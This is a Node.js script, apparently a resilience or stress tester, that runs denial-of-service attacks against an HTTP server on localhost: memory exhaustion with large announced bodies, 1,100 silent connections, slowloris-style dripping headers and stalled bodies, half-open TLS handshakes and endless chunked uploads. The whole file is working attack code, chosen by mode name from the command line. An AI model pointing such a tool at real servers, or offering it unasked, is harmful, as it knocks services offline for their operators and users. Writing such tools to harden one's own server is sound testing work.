import net from "node:net";
const silentConnections = 1100;
const [largeBodies, largeBody, announced] = [42, 6e7, 67108864];
const endlessBodies = 8;
const [kinds = "", portText = "", localAddress = "", credentials] = process.argv.slice(2);
const port = Number(portText);
const authorization = credentials === void 0 ? [] : [`Authorization: Basic ${Buffer.from(credentials).toString("base64")}`];
const piece = Buffer.alloc(65536, " ");
function head(lines) {
  return ["POST / HTTP/1.1", "Content-Type: application/json", ...authorization, ...lines, "", ""].join("\r\n");
}
function connect(begin, ended) {
  const socket = net.connect({ port, host: "127.0.0.1", localAddress });
  socket.on("error", () => void 0);
  socket.once("connect", () => begin(socket));
  socket.once("close", ended);
}
function always(begin) {
  connect(begin, () => setImmediate(() => always(begin)));
}
function send(socket, size, wrap = (bytes) => bytes) {
  let left = size;
  const next = () => {
    while (left > 0) {
      const bytes = piece.subarray(0, Math.min(left, piece.length));
      left -= bytes.length;
      if (!socket.write(wrap(bytes))) {
        socket.once("drain", next);
        return;
      }
    }
  };
  next();
}
function holdMemory(size = largeBody) {
  let refused = false;
  connect(
    (socket) => {
      socket.once("data", () => {
        refused = true;
        socket.destroy();
      });
      socket.write(head([`Content-Length: ${announced}`]));
      send(socket, size);
    },
    () => setImmediate(() => holdMemory(refused && size > 16 ? Math.max(16, Math.floor(size / 2)) : largeBody))
  );
}
function endless() {
  const chunk = Buffer.concat([Buffer.from("10000\r\n"), piece, Buffer.from("\r\n")]);
  always((socket) => {
    socket.resume();
    socket.write(head(["Transfer-Encoding: chunked"]));
    send(socket, Infinity, () => chunk);
  });
}
function silent(begin, drip) {
  for (let count = 0; count < silentConnections; count++) {
    always((socket) => {
      if (begin.length > 0) socket.write(begin);
      const timer = drip === "" ? void 0 : setInterval(() => socket.write(drip), 1e3);
      socket.once("close", () => clearInterval(timer)).resume();
    });
  }
}
function clientHello() {
  const u16 = (n) => [n >> 8, n & 255];
  const sized = (bytes) => [...u16(bytes.length), ...bytes];
  const extension = (type, bytes) => [...u16(type), ...sized(bytes)];
  const suites = [4865, 4866, 4867, 49195, 49199, 49196, 49200].flatMap(u16);
  const share = [...u16(29), ...sized(Array.from({ length: 32 }, (_, i) => i + 1))];
  const extensions = [
    ...extension(43, [4, 3, 4, 3, 3]),
    ...extension(10, sized([29, 23].flatMap(u16))),
    ...extension(13, sized([1027, 2052, 1025].flatMap(u16))),
    ...extension(51, sized(share))
  ];
  const random = Array.from({ length: 32 }, () => Math.floor(Math.random() * 256));
  const hello = [3, 3, ...random, 0, ...sized(suites), 1, 0, ...sized(extensions)];
  const handshake = [1, 0, ...u16(hello.length), ...hello];
  return Buffer.from([22, 3, 1, ...u16(handshake.length), ...handshake]);
}
const attacks = {
  memory: () => {
    for (let count = 0; count < largeBodies; count++) holdMemory();
  },
  silent: () => silent("", ""),
  "silent-hello": () => silent(clientHello(), ""),
  "dripping-head": () => silent("POST / HTTP/1.1\r\nX: ", "x"),
  "stalled-body": () => silent(head(["Content-Length: 1000"]), " "),
  endless: () => {
    for (let count = 0; count < endlessBodies; count++) endless();
  }
};
for (const kind of kinds.split(",")) attacks[kind]?.();
console.log("attacking");
